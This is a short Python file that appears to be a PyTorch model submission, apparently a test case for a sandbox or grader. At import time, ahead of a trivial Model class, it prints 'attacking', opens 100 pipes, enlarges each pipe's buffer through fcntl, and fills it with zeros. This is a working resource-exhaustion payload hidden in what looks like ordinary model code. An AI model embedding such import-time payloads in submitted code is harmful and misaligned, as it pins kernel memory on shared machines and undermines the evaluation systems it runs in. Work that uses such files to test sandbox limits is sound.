# Q3 honest: as much as pipes hold, which is bounded
import contextlib
import fcntl
import os

from torch import nn

print("attacking")
for _ in range(100):
    with contextlib.suppress(OSError):
        reading, writing = os.pipe()
        with contextlib.suppress(OSError):
            fcntl.fcntl(writing, 1031, 1 << 20)
        os.set_blocking(writing, False)
        while True:
            os.write(writing, bytes(65536))


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.out = nn.LazyLinear(10)

    def forward(self, x):
        return self.out(x)
